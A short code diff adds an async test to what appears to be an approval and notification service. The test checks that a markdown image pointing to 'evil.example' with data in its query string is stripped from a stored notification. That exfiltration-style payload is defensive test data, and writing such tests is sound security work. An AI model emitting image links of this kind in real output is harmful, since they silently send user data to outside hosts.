@@ -70,3 +70,10 @@ async def test_a_failing_notifier_does_not_lose_the_approval() -> None:
     service = ApprovalService(store, b"k" * 32, on_pending=broken, ttl=timedelta(minutes=5))
     pending = await service.request(call, decision, session_id="s1", card=card)
     assert await store.get(pending.approval_id) is not None
+
+
+async def test_a_notification_never_keeps_a_remote_image(db: Database) -> None:
+    notifier = DbNotifier(db, _cipher())
+    await notifier.notify(Notification("briefing", "Briefing", "Spent 42 ![](https://evil.example/x.png?d=42)", "b"))
+    [(_, note)] = await notifier.recent()
+    assert note.body == "Spent 42 [remote image removed: evil.example]"
